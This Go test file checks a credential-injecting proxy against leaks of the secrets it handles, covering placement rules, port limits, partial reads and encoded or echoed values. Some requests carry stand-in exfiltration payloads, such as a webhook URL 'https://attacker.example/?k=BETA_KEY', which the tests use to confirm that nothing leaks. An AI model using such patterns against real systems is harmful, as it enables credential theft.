package proxy

import (
	"bufio"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/codeforge/codeforge/settings"
)

// The attacks of issue 7, each through the real proxy against real TLS
// upstreams on loopback. The code is hostile: it wants a real value to
// reach a place it should not, or to read one back.

// TestPlacementKeepsNamesWhereAPIDidNotOptIn: beta takes credentials in
// headers only (the default), so a token name written into a body, a
// query or a path reaches the API as the name (a webhook URL or a stored
// comment cannot carry the key), and the network log says why.
func TestPlacementKeepsNamesWhereAPIDidNotOptIn(t *testing.T) {
	t.Parallel()
	tp := startProxy(t)
	up := newUpstream(t, nil)
	run, c := tp.open(t)

	resp, _ := do(t, c, "POST", up.url("beta.test", "/hooks/BETA_KEY?url=https://attacker.example/?k=BETA_KEY"),
		strings.NewReader(`{"webhook_url":"https://attacker.example/?k=BETA_KEY"}`),
		map[string]string{"Content-Type": "application/json", "Authorization": "Bearer BETA_KEY"})
	if resp.StatusCode != 200 {
		t.Fatalf("status %d", resp.StatusCode)
	}
	s := up.seen()[0]
	if got := s.Header.Get("Authorization"); got != "Bearer "+betaSecret {
		t.Errorf("the header (opted in by default) got %q, want the value", got)
	}
	if s.Body != `{"webhook_url":"https://attacker.example/?k=BETA_KEY"}` || s.URI != "/hooks/BETA_KEY?url=https://attacker.example/?k=BETA_KEY" {
		t.Errorf("body/URL at the API = %q %q; want the token name left as it is", s.Body, s.URI)
	}
	mustNotContain(t, "what the API got outside headers", s.URI+s.Body, betaSecret)
	log, err := run.Finish(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if len(log) != 1 || !log[0].Injected {
		t.Fatalf("network log = %+v", log)
	}
	notes := strings.Join(log[0].Notes, "\n")
	mustContain(t, "network log notes", notes, "BETA_KEY in the request body was sent as the literal name",
		"BETA_KEY in the request query", "BETA_KEY in the request path", `"substitute_in"`, "apis/beta/config.json")
	mustNotContain(t, "notes", notes, betaSecret)
}

// TestPlacementEncodesForWhereTheValueLands: a value with '+', '&', '=',
// '"' and '\' reaches the API exactly, in a form body, a JSON body, a
// query and a path.
func TestPlacementEncodesForWhereTheValueLands(t *testing.T) {
	t.Parallel()
	const secret = `q+u&o=t"e\s/1 2%41`
	dir := t.TempDir()
	writeAPI(t, dir, "gamma", map[string]any{
		"domains":       []string{"api.test"},
		"credentials":   map[string]string{"GAMMA_TOKEN": secret},
		"substitute_in": []string{"headers", "query", "path", "body"},
		"ports":         upstreamPorts(t),
	})
	tp := startProxy(t, func(o *Options) { o.APIs = loadAPIs(t, dir) })
	type got struct{ form, json, query, path string }
	results := make(chan got, 4)
	up := newUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		var g got
		switch r.URL.Path {
		case "/form":
			_ = r.ParseForm()
			g.form = r.PostForm.Get("k")
		case "/json":
			var v struct{ K string }
			_ = json.NewDecoder(r.Body).Decode(&v)
			g.json = v.K
		case "/query":
			g.query = r.URL.Query().Get("k")
		default:
			g.path = strings.TrimPrefix(r.URL.Path, "/p/")
		}
		results <- g
		_, _ = io.WriteString(w, "ok")
	})
	_, c := tp.open(t)
	do(t, c, "POST", up.url("api.test", "/form"), strings.NewReader("a=1&k=GAMMA_TOKEN&b=2"), map[string]string{"Content-Type": "application/x-www-form-urlencoded"})
	do(t, c, "POST", up.url("api.test", "/json"), strings.NewReader(`{"k":"GAMMA_TOKEN"}`), map[string]string{"Content-Type": "application/json; charset=utf-8"})
	do(t, c, "GET", up.url("api.test", "/query?k=GAMMA_TOKEN&x=1"), nil, nil)
	do(t, c, "GET", up.url("api.test", "/p/GAMMA_TOKEN"), nil, nil)
	for range 4 {
		g := <-results
		for what, v := range map[string]string{"form": g.form, "json": g.json, "query": g.query, "path": g.path} {
			if v != "" && v != secret {
				t.Errorf("%s: the API decoded %q, want exactly the secret", what, v)
			}
		}
		if g == (got{}) {
			t.Error("a request reached the API without the value where it was placed")
		}
	}
}

// TestCredentialOnlyToConfiguredPorts: beta's default port list is [443];
// a token name to another port of its host is refused, nothing is sent,
// and a request without one passes.
func TestCredentialOnlyToConfiguredPorts(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	writeAPI(t, dir, "beta", map[string]any{
		"domains":     []string{"beta.test"},
		"credentials": map[string]string{"BETA_KEY": betaSecret},
	})
	tp := startProxy(t, func(o *Options) { o.APIs = loadAPIs(t, dir) })
	up := newUpstream(t, nil)
	_, c := tp.open(t)
	resp, body := do(t, c, "GET", up.url("beta.test", "/"), nil, map[string]string{"Authorization": "Bearer BETA_KEY"})
	if resp.StatusCode != http.StatusForbidden || resp.Header.Get(errorHeader) != "credential_not_sent" {
		t.Errorf("token to port %s: status %d %q", up.port, resp.StatusCode, resp.Header.Get(errorHeader))
	}
	mustContain(t, "refusal", body, "only sent to port 443", "not to port "+up.port, `add `+up.port+` to "ports" in apis/beta/config.json`)
	if resp, _ := do(t, c, "GET", up.url("beta.test", "/free"), nil, nil); resp.StatusCode != 200 {
		t.Errorf("request without a token name: status %d", resp.StatusCode)
	}
	for _, s := range up.seen() {
		mustNotContain(t, "upstream", headerText(s.Header)+s.URI, betaSecret)
		if s.URI != "/free" {
			t.Errorf("upstream saw %s", s.URI)
		}
	}
}

// TestReadBackThroughAnyHost: a value stored through alpha comes back
// through beta's host, an unconfigured host (YOLO) and plain http on any
// port — always as its token name.
func TestReadBackThroughAnyHost(t *testing.T) {
	t.Parallel()
	tp := startProxy(t, withSettings(settings.Common{YOLO: true}))
	stored := func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Stored", alphaSecret)
		_, _ = io.WriteString(w, `{"comment":"`+alphaSecret+`","other":"`+betaSecret+`"}`)
	}
	tlsUp := newUpstream(t, stored)
	plain := startUpstream(t, stored, false, testPKI(t).leaf)
	_, c := tp.open(t)
	for _, u := range []string{tlsUp.url("beta.test", "/gist"), tlsUp.url("other.test", "/gist"), plain.url("other.test", "/gist"), plain.url("api.test", "/gist")} {
		resp, body := do(t, c, "GET", u, nil, nil)
		if resp.StatusCode != 200 {
			t.Errorf("%s: status %d", u, resp.StatusCode)
			continue
		}
		if body != `{"comment":"ALPHA_TOKEN","other":"BETA_KEY"}` || resp.Header.Get("X-Stored") != "ALPHA_TOKEN" {
			t.Errorf("%s: got %q, X-Stored %q", u, body, resp.Header.Get("X-Stored"))
		}
	}
}

// TestNoPartialReads: Range and If-Range never reach an upstream, and a
// 206 is refused from any host, so a value cannot be read in pieces.
func TestNoPartialReads(t *testing.T) {
	t.Parallel()
	tp := startProxy(t, withSettings(settings.Common{YOLO: true}))
	up := newUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/sneaky" {
			w.Header().Set("Content-Range", "bytes 0-9/40")
			w.WriteHeader(http.StatusPartialContent)
			_, _ = io.WriteString(w, alphaSecret[:10])
			return
		}
		_, _ = io.WriteString(w, "range="+r.Header.Get("Range")+" if-range="+r.Header.Get("If-Range")+" "+alphaSecret)
	})
	_, c := tp.open(t)
	for _, host := range []string{"api.test", "other.test"} {
		for _, rng := range []string{"bytes=0-9", "bytes=10-"} {
			resp, body := do(t, c, "GET", up.url(host, "/stored"), nil, map[string]string{"Range": rng, "If-Range": `"etag"`})
			if resp.StatusCode != 200 || body != "range= if-range= ALPHA_TOKEN" {
				t.Errorf("%s Range %s: %d %q; want the whole, scrubbed resource", host, rng, resp.StatusCode, body)
			}
		}
		resp, body := do(t, c, "GET", up.url(host, "/sneaky"), nil, nil)
		if resp.StatusCode != http.StatusBadGateway || resp.Header.Get(errorHeader) != "partial_content" {
			t.Errorf("%s 206: status %d %q", host, resp.StatusCode, resp.Header.Get(errorHeader))
		}
		mustNotContain(t, "206 answer", body, alphaSecret[:10])
	}
}

// TestEncodedValuesNeverComeBack: every spelling an API commonly hands data
// back in is turned into the token name, or refused where a stream cannot
// turn it back (base64 at any offset), also gzip-compressed, in headers,
// and in DEBUG_MODE logs.
func TestEncodedValuesNeverComeBack(t *testing.T) {
	t.Parallel()
	var jsonU strings.Builder
	for _, c := range alphaSecret2 {
		fmt.Fprintf(&jsonU, `\u%04X`, c)
	}
	rewritten := map[string]string{
		"/literal":      alphaSecret,
		"/query":        url.QueryEscape(alphaSecret2),
		"/path":         url.PathEscape(alphaSecret2),
		"/lowerpercent": strings.NewReplacer("%2B", "%2b", "%2F", "%2f", "%3D", "%3d").Replace(url.QueryEscape(alphaSecret2)),
		"/jsonu":        jsonU.String(),
		"/jsonslash":    strings.ReplaceAll(alphaSecret2, "/", `\/`),
		"/mixed":        `alpha%2Bsecond\/secr\u0065t%3dvalue`,
	}
	want := map[string]string{"/literal": "ALPHA_TOKEN"}
	refused := map[string]string{}
	for i, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding, base64.RawStdEncoding} {
		for off := range 3 {
			refused[fmt.Sprintf("/b64-%d-%d", i, off)] = enc.EncodeToString([]byte(strings.Repeat("x", off) + "{" + alphaSecret + "}"))
		}
	}
	tp := startProxy(t, withSettings(settings.Common{YOLO: true, Debug: true}))
	up := newUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		v := rewritten[r.URL.Path] + refused[r.URL.Path]
		if r.URL.Query().Get("in") == "header" {
			w.Header().Set("X-Data", v)
			return
		}
		if r.URL.Query().Get("gzip") != "" {
			w.Header().Set("Content-Encoding", "gzip")
			zw := gzip.NewWriter(w)
			_, _ = io.WriteString(zw, "["+v+"]")
			_ = zw.Close()
			return
		}
		_, _ = io.WriteString(w, "["+v+"]")
	})
	_, c := tp.open(t)
	for _, host := range []string{"api.test", "other.test"} {
		for path := range rewritten {
			for _, q := range []string{"", "?gzip=1", "?in=header"} {
				resp, body := do(t, c, "GET", up.url(host, path+q), nil, nil)
				text := body + headerText(resp.Header)
				wantName := "ALPHA_OTHER"
				if w, ok := want[path]; ok {
					wantName = w
				}
				if resp.StatusCode != 200 || !strings.Contains(text, wantName) {
					t.Errorf("%s%s%s: %d, want %s in %q", host, path, q, resp.StatusCode, wantName, text)
				}
				mustNotContain(t, host+path+q, text, alphaSecret, alphaSecret2, rewritten[path])
			}
		}
		for path, enc := range refused {
			for _, q := range []string{"", "?gzip=1", "?in=header"} {
				resp, body := do(t, c, "GET", up.url(host, path+q), nil, nil)
				if resp.StatusCode != http.StatusBadGateway || resp.Header.Get(errorHeader) != "credential_in_response" {
					t.Errorf("%s%s%s: status %d %q, want 502 credential_in_response", host, path, q, resp.StatusCode, resp.Header.Get(errorHeader))
				}
				mustContain(t, path, body, "ALPHA_TOKEN (base64-encoded)")
				mustNotContain(t, path, body+headerText(resp.Header), enc[4:len(enc)-4])
			}
		}
	}
	logs := tp.log.String()
	mustContain(t, "debug log", logs, "payload")
	mustNotContain(t, "proxy log (DEBUG_MODE)", logs, alphaSecret, alphaSecret2, url.QueryEscape(alphaSecret2), jsonU.String(), `alpha%2Bsecond\/secr`)
	for _, enc := range refused {
		mustNotContain(t, "proxy log (DEBUG_MODE)", logs, enc[4:len(enc)-4])
	}
}

// TestBase64PastThePrereadCutsTheStream: a streamed (unsized) response
// that turns to a base64 form after its start is cut where the form
// begins; the client never receives it, and the network log says why.
func TestBase64PastThePrereadCutsTheStream(t *testing.T) {
	t.Parallel()
	tp := startProxy(t)
	b64 := base64.StdEncoding.EncodeToString([]byte("id=" + alphaSecret))
	up := newUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, "line one\n")
		w.(http.Flusher).Flush()
		_, _ = io.WriteString(w, strings.Repeat("z", 100<<10)+" "+b64+" trailing\n")
	})
	run, c := tp.open(t)
	resp, err := c.Get(up.url("api.test", "/stream"))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	first, err := bufio.NewReader(resp.Body).ReadString('\n')
	if resp.StatusCode != 200 || first != "line one\n" {
		t.Fatalf("start of the stream: %d %q %v", resp.StatusCode, first, err)
	}
	rest, err := io.ReadAll(resp.Body)
	if err == nil {
		t.Error("the stream ended cleanly; want it cut where the base64 form starts")
	}
	mustNotContain(t, "streamed body", string(rest), b64[6:len(b64)-4], "trailing")
	log, _ := run.Finish(t.Context())
	if len(log) != 1 || log[0].Blocked != "credential_in_response" || !strings.Contains(strings.Join(log[0].Notes, ""), "cut") {
		t.Errorf("network log = %+v", log)
	}
}

// TestBasicEchoComesBackAsWritten: the Basic credential the proxy
// assembles (base64 of user:value) comes back, when an API echoes it, as
// the code's own base64 of user:TOKEN — also in a later request.
func TestBasicEchoComesBackAsWritten(t *testing.T) {
	t.Parallel()
	tp := startProxy(t)
	var mu sync.Mutex
	var last string
	up := newUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		if a := r.Header.Get("Authorization"); a != "" {
			last = a
		}
		w.Header().Set("X-Echo", last)
		_, _ = io.WriteString(w, `{"authorization":"`+last+`"}`)
	})
	_, c := tp.open(t)
	written := "Basic " + base64.StdEncoding.EncodeToString([]byte("acct_42:ALPHA_TOKEN"))
	for i, hdr := range []map[string]string{{"Authorization": written}, nil} {
		resp, body := do(t, c, "GET", up.url("api.test", "/echo"), nil, hdr)
		if resp.StatusCode != 200 || resp.Header.Get("X-Echo") != written || body != `{"authorization":"`+written+`"}` {
			t.Errorf("request %d: %d X-Echo %q body %q; want the code's own credential back", i, resp.StatusCode, resp.Header.Get("X-Echo"), body)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	if want := "Basic " + base64.StdEncoding.EncodeToString([]byte("acct_42:"+alphaSecret)); last != want {
		t.Errorf("the API got %q, want the assembled credential", last)
	}
}
